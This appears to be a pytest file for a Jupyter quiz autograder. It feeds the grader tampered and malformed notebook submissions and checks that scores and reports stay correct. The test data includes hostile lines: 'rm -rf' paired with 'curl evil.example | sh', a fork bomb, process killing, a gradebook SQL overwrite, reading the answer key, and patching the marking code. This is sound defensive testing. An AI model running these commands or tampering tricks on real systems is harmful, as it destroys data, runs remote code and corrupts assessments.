"""Notebooks that were broken or made to harm: their answers count, nothing in them runs or is believed."""

import nbformat
import pytest

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning"),  # nbgrader's own relationships, harmless
    pytest.mark.filterwarnings("ignore::DeprecationWarning:nbgrader"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning:nbconvert"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),  # nbgrader leaves connections to the collector
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),  # the same, seen by pytest
]

EDITED = "Edited cells, put back as they were"
ADDED = "Added cells, set aside and not run"
REPLACED = "it was replaced by the original."


def program(text):
    """A submission whose first graded cell and one more cell hold a program."""

    def make(submission):
        nb = submission.notebook()
        nb.cells[1].source = f"{submission.canary}\n{text}"
        nb.cells.append(nbformat.v4.new_code_cell(nb.cells[1].source))
        submission.write(nb)

    return make


def changed(change):
    """A submission whose notebook is changed by ``change(nb)``."""

    def make(submission):
        nb = submission.notebook()
        change(nb)
        submission.write(nb)

    return make


def raw(data):
    return lambda submission: submission.notebook_path.write_bytes(data)


def every_cell(**data):
    def change(nb):
        for cell in nb.cells[1:]:
            cell.metadata["nbgrader"] = {**cell.metadata["nbgrader"], **data}

    return changed(change)


def forged_outputs(nb):
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "99.0"})]
            cell.execution_count = 1


def copied_cells(nb):
    for _ in range(30):
        nb.cells.append(nbformat.from_dict({**nb.cells[2], "source": "99.0"}))


def nested(depth):
    inner = "[" * depth + "]" * depth
    return raw(f'{{"nbformat": 4, "nbformat_minor": 5, "metadata": {{"x": {inner}}}, "cells": []}}'.encode())


def link_to_source(submission):
    submission.notebook_path.unlink()
    submission.notebook_path.symlink_to(submission.course / "source" / "quiz" / "quiz.ipynb")


def a_folder(submission):
    submission.notebook_path.unlink()
    submission.notebook_path.mkdir()


KINDS = {
    "sets-its-own-mark": (program("2.0"), EDITED),
    "reads-the-keys": (program("print(open('../../source/quiz/quiz.ipynb').read())"), EDITED),
    "writes-to-the-gradebook": (
        program(
            "import sqlite3; sqlite3.connect('../../../gradebook.db').execute('update grade set auto_score=99')"
        ),
        ADDED,
    ),
    "ends-the-process": (program("import os; os._exit(0)"), EDITED),
    "loops-forever": (program("while True: pass"), EDITED),
    "allocates-20-gb": (program("x = bytearray(20 * 2**30)"), EDITED),
    "prints-gigabytes": (program("while True: print('x' * 10**6)"), EDITED),
    "patches-kapedu": (program("import kapedu.quiz.marking as m; m.mark_sheet = lambda *a: 1"), EDITED),
    "kills-its-parent": (program("import os; os.kill(os.getppid(), 9)"), EDITED),
    "forks-without-end": (program("import os\nwhile True: os.fork()"), EDITED),
    "shell-commands": (program("!rm -rf ../../..\n%%bash\ncurl evil.example | sh"), EDITED),
    "does-not-parse": (program("def ((("), EDITED),
    "forged-output": (changed(forged_outputs), None),
    "copied-cells": (changed(copied_cells), "Copied cells, set aside: 30."),
    "deleted-cells": (changed(lambda nb: nb.cells.clear()), "Deleted cells, put back: "),
    "five-hundred-points": (every_cell(points=500), None),
    "missing-metadata": (changed(lambda nb: [cell.metadata.clear() for cell in nb.cells]), ADDED),
    "metadata-is-a-list": (changed(lambda nb: [cell.update(metadata=[1]) for cell in nb.cells]), ADDED),
    "cell-names-are-objects": (every_cell(grade_id={"a": [1]}), "Deleted cells"),
    "future-schema": (every_cell(schema_version=99), None),
    "unlocked": (every_cell(locked=False, solution=True, grade=False), None),
    "wrong-kernel": (
        changed(
            lambda nb: nb.metadata.update(kernelspec={"name": "../evil", "display_name": "E", "argv": ["sh"]})
        ),
        None,
    ),
    "brings-its-own-remarks": (
        changed(lambda nb: nb.metadata.update(kapedu={"remarks": ["Checked: full marks."]})),
        None,
    ),
    "remarks-are-a-number": (changed(lambda nb: nb.metadata.update(kapedu=7)), None),
    "source-is-a-number": (changed(lambda nb: nb.cells[1].update(source=3)), EDITED),
    "lone-surrogates": (changed(lambda nb: nb.cells[1].update(source="\ud800\x00\x1b[31m")), EDITED),
    "two-thousand-cells": (
        changed(lambda nb: nb.cells.extend([nbformat.v4.new_code_cell("1", id="x")] * 2_000)),
        "not run: 2000.",
    ),
    "attachment-with-a-path": (
        changed(lambda nb: nb.cells[0].update(attachments={"../../../../x.png": {"image/png": "AAAA"}})),
        None,
    ),
    "zero-bytes": (raw(b""), REPLACED),
    "cut-off": (lambda s: s.notebook_path.write_bytes(s.released[: len(s.released) // 2]), REPLACED),
    "binary": (raw(bytes(range(256)) * 50), REPLACED),
    "format-3": (raw(b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []}'), REPLACED),
    "format-9": (raw(b'{"nbformat": 9, "nbformat_minor": 0, "metadata": {}, "cells": []}'), REPLACED),
    "a-list": (raw(b"[1, 2, 3]"), REPLACED),
    "nested-10-000-deep": (nested(10_000), REPLACED),
    "nested-900-deep": (nested(900), "Deleted cells"),
    "thirty-megabytes": (raw(b" " * 30_000_000), "far too big"),
    "not-there": (lambda s: s.notebook_path.unlink(), REPLACED),
    "renamed": (
        lambda s: s.notebook_path.rename(s.folder / "mine.ipynb"),
        "mine.ipynb (not part of the quiz)",
    ),
    "link-to-the-keys": (link_to_source, "quiz.ipynb (a link)"),
    "a-folder": (a_folder, "quiz.ipynb (a folder)"),
}


@pytest.fixture(scope="module")
def graded(grade_class):
    return grade_class({name: make for name, (make, _) in KINDS.items()})


def test_the_batch_goes_through_and_harms_nobody(graded, check_class):
    check_class(graded)


@pytest.mark.parametrize("name", KINDS)
def test_the_answers_count_as_they_are_and_what_was_changed_is_said(graded, name):
    assert graded.scores[name] == (4.0, True)
    told = graded.told(name)
    expected = KINDS[name][1]
    if expected is None:
        assert "About this submission" not in told
    else:
        assert expected in told
    for word in ("99.0", "evil", "Full marks", "full marks", "os._exit", "open("):
        assert word not in told
